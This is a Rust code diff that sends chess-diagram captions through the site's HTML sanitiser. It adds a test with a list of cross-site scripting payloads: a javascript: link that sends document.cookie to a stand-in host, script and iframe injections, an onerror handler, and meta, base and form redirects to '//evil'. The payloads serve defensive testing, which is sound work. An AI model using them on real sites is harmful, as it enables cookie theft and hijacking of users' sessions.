@@ -634,10 +634,14 @@ fn shadowed(layout: &Layout, shadow: &[Shadow]) -> Vec<(usize, usize)> {
 }
 
 /// A caption is Markdown inline text (the Pug converter escapes what
-/// Markdown would misread); render it without the paragraph around it.
+/// Markdown would misread); render it without the paragraph around it,
+/// through the sanitiser every page body goes through: the diagram's HTML
+/// is placed into the page after the body was sanitised, so its caption
+/// must be sanitised here (raw HTML and links are the author's).
 fn inline_markdown(text: &str) -> String {
     let mut html = String::new();
     pulldown_cmark::html::push_html(&mut html, pulldown_cmark::Parser::new(text));
+    let html = crate::markdown::sanitise(&html);
     let html = html.trim_end();
     let inner = html
         .strip_prefix("<p>")
@@ -798,6 +802,31 @@ mod tests {
             html.contains("<figcaption>1.Qa5 <em>wins</em> a &lt; b</figcaption>"),
             "{html}"
         );
+    }
+
+    #[test]
+    fn hostile_captions_are_sanitised() {
+        let hostile = [
+            "[Play](javascript&#58;fetch('//x/?c='+document.cookie))",
+            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+            "<script>alert(1)</script>",
+            "<img src=x onerror=alert(1)>",
+            "<meta http-equiv=refresh content='0;url=//evil'>",
+            "<base href='//evil/'>",
+            "<form action='//evil'><input></form>",
+            "<object data='x.swf'></object>",
+            "[d](data:text/html;base64,PHNjcmlwdD4=)",
+            "<a href=\"vbscript:x\">v</a>",
+        ];
+        for caption in hostile {
+            let mut spec = parse_block("fen: 8/8\n").unwrap();
+            spec.caption = Some(caption.to_string());
+            let mut sheet = SymbolSheet::default();
+            let html = draw_diagram("Chess", &spec, &page_painter(), &mut sheet).html;
+            let found = crate::unsafe_markup::find(&html, &|_| false);
+            assert!(found.is_empty(), "{caption}: {found:?} in {html}");
+            assert!(html.contains("<figcaption>"), "{html}");
+        }
     }
 
     #[test]
